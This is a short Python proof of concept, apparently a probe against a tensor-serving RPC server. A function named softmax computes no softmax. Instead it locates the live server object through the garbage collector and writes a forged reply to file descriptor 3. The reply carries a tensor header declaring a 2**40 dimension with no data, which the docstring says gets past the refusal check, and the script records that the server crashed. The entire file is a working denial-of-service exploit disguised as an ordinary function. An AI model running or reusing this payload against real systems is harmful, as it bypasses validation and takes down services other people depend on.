"""Sends a tensor without bytes that has a dimension of 2**40, past the code that would refuse it."""
# verdict: crashed
import gc
import json
import os
import struct

server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")


def softmax(x, dim=-1):
    header = {"0": {"dtype": "F32", "shape": [1 << 40, 0], "data_offsets": [0, 0]}}
    data = json.dumps(header).encode()
    data += b" " * (-len(data) % 8)
    blob = struct.pack("<Q", len(data)) + data
    reply = {"id": server._request[-1], "do": "reply", "value": {"T": 0}}
    text = json.dumps(reply).encode()
    os.write(3, struct.pack("<QQ", len(text), len(blob)) + text + blob)
